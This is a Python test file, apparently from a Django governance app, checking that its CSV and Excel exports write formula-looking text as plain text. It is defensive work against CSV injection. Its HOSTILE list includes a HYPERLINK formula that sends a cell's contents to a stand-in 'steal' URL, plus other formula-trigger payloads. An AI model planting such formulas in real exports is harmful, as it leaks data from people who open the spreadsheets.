"""Formula-looking text is written as text in every export (issue 12): the register's CSV and the board pack's
workbook both write through governance.exports, and no other code writes a CSV row or a workbook cell."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell

from governance.exports import csv_cell, csv_lines, excel_text
from governance.models import Role
from tests.factories import FinancialYearFactory, OrganisationFactory, ProgrammeFactory, SchemeFactory, member

ROOT = Path(__file__).resolve().parents[2]
APPS = ("governance", "schemes", "risks", "finance", "dashboards", "demo", "benchmarks", "qipp_portal")
HOSTILE = ['=HYPERLINK("http://example.org/steal?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_starting_like_a_formula_is_written_after_an_apostrophe(text) -> None:
    assert csv_cell(text) == f"'{text}"


def test_numbers_and_ordinary_text_are_written_as_they_are() -> None:
    assert [csv_cell(v) for v in (Decimal("-1234.50"), "-1234.50", -3, "Reablement", None, "a=b")] == \
        ["-1234.50", "-1234.50", "-3", "Reablement", "", "a=b"]
    assert list(csv_lines([["=1+1", "-5.00"]])) == ["'=1+1,-5.00\r\n"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_cell_starting_like_a_formula_stays_text_when_saved_and_opened(text) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    cell = sheet.cell(row=1, column=1)
    assert isinstance(cell, Cell)
    excel_text(cell, text)
    out = io.BytesIO()
    book.save(out)
    opened = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Sheet"]["A1"]
    assert opened.data_type == "s" and opened.value == text.replace("\r", "\n")  # XML keeps no bare CR
    assert opened.quotePrefix  # Excel keeps it text when someone edits the cell


@pytest.mark.django_db
def test_the_register_csv_writes_a_scheme_named_like_a_formula_as_text(client) -> None:
    organisation = OrganisationFactory(ods_code="07N")
    year = FinancialYearFactory(start_year=2013)
    SchemeFactory(organisation=organisation, year=year, reference="+1", name=HOSTILE[0],
                  programme=ProgrammeFactory(organisation=organisation, name="@SUM(A1:A9)"))
    client.force_login(member(organisation, Role.VIEWER))
    response = client.get("/schemes/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    scheme = next(row for row in rows if row[0] == "'+1")
    assert scheme[1:3] == [f"'{HOSTILE[0]}", "'@SUM(A1:A9)"]
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_no_code_writes_a_csv_row_or_a_workbook_cell_but_through_the_one_safe_writer() -> None:
    """A new export path must use governance.exports (csv_lines, excel_text), or be named here with its reason."""
    writers = {
        r"csv\.(writer|DictWriter)\(": {"governance/exports.py"},
        r"\.to_(csv|excel)\(": set(),
        # The board pack's one workbook; the benchmarks write their own input files (not exports).
        r"\bWorkbook\(": {"dashboards/exports/workbook.py", "benchmarks/management/commands/benchmark.py",
                           "benchmarks/hot_paths.py", "benchmarks/measure.py"},
        # Cell values: the safe writer; the pack's put() for numbers and dates, and formula() for its own totals.
        r"\.value\s*=(?!=)|\.cell\([^)]*value=": {"governance/exports.py", "dashboards/exports/formats.py"},
    }
    found = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            relative = str(path.relative_to(ROOT))
            if "/migrations/" in relative or "/importers/" in relative:
                continue
            source = path.read_text()
            for pattern, allowed in writers.items():
                if relative not in allowed and re.search(pattern, source):
                    found.append(f"{relative}: {pattern}")
    assert found == []
